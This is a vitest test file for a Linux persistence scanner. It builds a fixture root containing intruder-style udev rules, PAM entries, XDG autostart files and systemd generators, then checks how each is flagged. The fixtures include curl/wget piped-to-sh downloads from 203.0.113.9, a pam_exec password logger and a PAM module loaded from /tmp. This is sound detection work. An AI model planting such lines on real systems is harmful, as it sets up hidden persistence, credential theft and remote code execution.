// Programs started by events: udev rules, PAM, XDG autostart and systemd generators, on a fixture root.
// What the distribution ships is shown only when it does what no package does; what sits where an
// administrator (or an intruder) puts things is listed whatever it runs.
import { afterAll, describe, expect, it } from 'vitest';
import { describeEntry } from '../../src/persistence/format';
import { collectPersistence } from '../../src/persistence/index';
import type { PersistenceEntry, PersistenceReport } from '../../src/persistence/types';
import { ageTree, cleanup, NOW, tempRoot, write } from './helpers';

afterAll(cleanup);

const ids = (e: PersistenceEntry) => e.findings.map((f) => f.id).sort();
function entry(r: PersistenceReport, id: string): PersistenceEntry {
  const e = r.entries.find((x) => x.id === id);
  if (!e) throw new Error(`no entry ${id}; have: ${r.entries.map((x) => x.id).join(', ')}`);
  return e;
}

function host(): string {
  const root = tempRoot();
  write(root, 'etc/passwd', 'root:x:0:0:root:/root:/bin/bash\nabc:x:1001:1001::/home/abc:/bin/bash\n');
  // udev: an intruder's rule (the sedexp pattern: /dev/random's major/minor fires at every boot), an
  // administrator's own, and the distribution's (one honest, one not)
  write(root, 'etc/udev/rules.d/99-sys.rules', [
    '# keep',
    'ACTION=="add", ENV{MAJOR}=="1", ENV{MINOR}=="8", RUN+="/bin/sh -c \'/var/tmp/.x/kdevtmpfsi &\'"',
    'SUBSYSTEM=="usb", ACTION=="add", RUN+="/usr/local/sbin/usb-notify %k"',
  ].join('\n'));
  write(root, 'usr/lib/udev/rules.d/60-serial.rules', 'SUBSYSTEM=="tty", IMPORT{program}="/usr/lib/udev/serial_id", RUN{builtin}+="path_id"\n');
  write(root, 'usr/lib/udev/rules.d/61-evil.rules', 'ACTION=="add", RUN+="/bin/sh -c \'curl -s http://203.0.113.9/x | sh\'"\n');
  // PAM: a password logger, a module from /tmp, the honest stack
  write(root, 'etc/pam.d/sshd', [
    '@include common-auth',
    'auth optional pam_exec.so quiet expose_authtok /usr/local/bin/log-pass.sh',
    'auth required /tmp/.p/pam_unix.so',
    'auth required /lib/x86_64-linux-gnu/security/pam_unix.so',
    'session [success=1 default=ignore] pam_exec.so seteuid /usr/local/sbin/on-login',
    '-session optional pam_systemd.so',
  ].join('\n'));
  write(root, 'etc/pam.conf', 'su auth optional pam_exec.so /home/abc/.x/su-hook\n');
  // XDG autostart: a user's hidden updater, a user's disabled entry, the desktop's own
  write(root, 'home/abc/.config/autostart/update.desktop', '[Desktop Entry]\nType=Application\nName=Update\nExec=/home/abc/.cache/upd --daemon %u\n');
  write(root, 'home/abc/.config/autostart/off.desktop', '[Desktop Entry]\nExec=/home/abc/bin/thing\nHidden=true\n');
  write(root, 'etc/xdg/autostart/gnome-keyring.desktop', '[Desktop Entry]\nExec=/usr/bin/gnome-keyring-daemon --start\n');
  // generators: one placed by hand, the distribution's compiled one, a distribution script gone bad
  write(root, 'etc/systemd/system-generators/net-gen', '#!/bin/sh\nnohup /dev/shm/.k/net >/dev/null 2>&1 &\n', 0o755);
  write(root, 'usr/lib/systemd/system-generators/systemd-fstab-generator', '\x7fELF\x02\x01\x01\0/tmp/strings in a binary\n', 0o755);
  write(root, 'usr/lib/systemd/system-generators/zz-upd', '#!/bin/sh\nwget -qO- http://203.0.113.9/g | sh\n', 0o755);
  ageTree(root);
  return root;
}

describe('event-started programs', () => {
  const r = collectPersistence({ root: host(), now: NOW });

  it('udev: an intruder\'s rule in /etc is high; an administrator\'s is low; the distribution\'s only when it does what no package does', () => {
    const evil = entry(r, '/etc/udev/rules.d/99-sys.rules:2');
    expect(evil.kind).toBe('udev-rule');
    expect(ids(evil)).toEqual(expect.arrayContaining(['C1', 'P13']));
    expect(evil.severity).toMatch(/high|critical/);
    expect(evil.runsAs).toBe('root');
    expect(evil.references).toContain('/var/tmp/.x/kdevtmpfsi');
    expect(describeEntry(evil)).toMatch(/^runs when a device event matches a udev rule from the temporary directory \/var\/tmp/);
    const admin = entry(r, '/etc/udev/rules.d/99-sys.rules:3');
    expect(ids(admin)).toEqual(['P13']);
    expect(admin.severity).toBe('low');
    expect(admin.command).toBe('/usr/local/sbin/usb-notify %k');
    expect(r.entries.some((e) => e.path === '/usr/lib/udev/rules.d/60-serial.rules')).toBe(false);
    expect(ids(entry(r, '/usr/lib/udev/rules.d/61-evil.rules:1'))).toEqual(expect.arrayContaining(['C2', 'P13']));
  });

  it('PAM: pam_exec says when it is handed the password; a module from /tmp is high; the honest stack is nothing', () => {
    const logger = entry(r, '/etc/pam.d/sshd:2');
    expect(logger.kind).toBe('pam');
    expect(ids(logger)).toEqual(['P14']);
    expect(logger.command).toBe('/usr/local/bin/log-pass.sh');
    expect(logger.findings[0].explanation).toBe('pam_exec.so runs /usr/local/bin/log-pass.sh at every sshd authentication or session, as root, and hands it the password typed');
    expect(logger.severity).toBe('high'); // a password logger's shape
    expect(entry(r, '/etc/pam.d/sshd:5').severity).toBe('medium'); // a login hook without the password: worth a look
    const module = entry(r, '/etc/pam.d/sshd:3');
    expect(ids(module)).toEqual(['P15']);
    expect(module.severity).toBe('high');
    expect(describeEntry(module)).toBe('is loaded at every login, su or sudo that goes through PAM');
    expect(entry(r, '/etc/pam.d/sshd:5').command).toBe('/usr/local/sbin/on-login'); // [bracketed control] and options skipped
    for (const line of [1, 4, 6]) expect(r.entries.some((e) => e.id === `/etc/pam.d/sshd:${line}`)).toBe(false);
    const conf = entry(r, '/etc/pam.conf:1');
    expect(ids(conf)).toEqual(expect.arrayContaining(['C1', 'P14']));
    expect(conf.findings.find((f) => f.id === 'P14')!.explanation).toMatch(/at every su authentication/);
  });

  it('XDG autostart: a user\'s entry is listed and judged; a hidden one and the desktop\'s own are not', () => {
    const upd = entry(r, '/home/abc/.config/autostart/update.desktop:4');
    expect(upd.kind).toBe('xdg-autostart');
    expect(upd.runsAs).toBe('abc');
    expect(upd.command).toBe('/home/abc/.cache/upd --daemon');
    expect(ids(upd)).toEqual(expect.arrayContaining(['C1', 'P16']));
    expect(r.entries.some((e) => e.path.endsWith('off.desktop'))).toBe(false);
    expect(r.entries.some((e) => e.path.startsWith('/etc/xdg/autostart'))).toBe(false);
  });

  it('systemd generators: one placed by hand is high with what it runs; the distribution\'s compiled ones are not read as text', () => {
    const gen = r.entries.find((e) => e.path === '/etc/systemd/system-generators/net-gen')!;
    expect(gen.kind).toBe('systemd-generator');
    expect(ids(gen)).toEqual(expect.arrayContaining(['C1', 'P17']));
    expect(gen.severity).toMatch(/high|critical/);
    expect(describeEntry(gen)).toMatch(/^runs at every boot and systemd reload, before any unit/);
    expect(r.entries.some((e) => e.path.endsWith('systemd-fstab-generator'))).toBe(false);
    const bad = r.entries.find((e) => e.path === '/usr/lib/systemd/system-generators/zz-upd')!;
    expect(ids(bad)).toEqual(expect.arrayContaining(['C2']));
    expect(ids(bad)).not.toContain('P17');
  });

  it('every place looked at is listed, found or absent', () => {
    const where = new Map(r.locations.map((l) => [l.path, l.status]));
    expect(where.get('/etc/udev/rules.d')).toBe('read');
    expect(where.get('/etc/pam.d')).toBe('read');
    expect(where.get('/run/udev/rules.d')).toBe('absent');
    expect(where.get('/etc/systemd/system-generators')).toBe('read');
  });
});
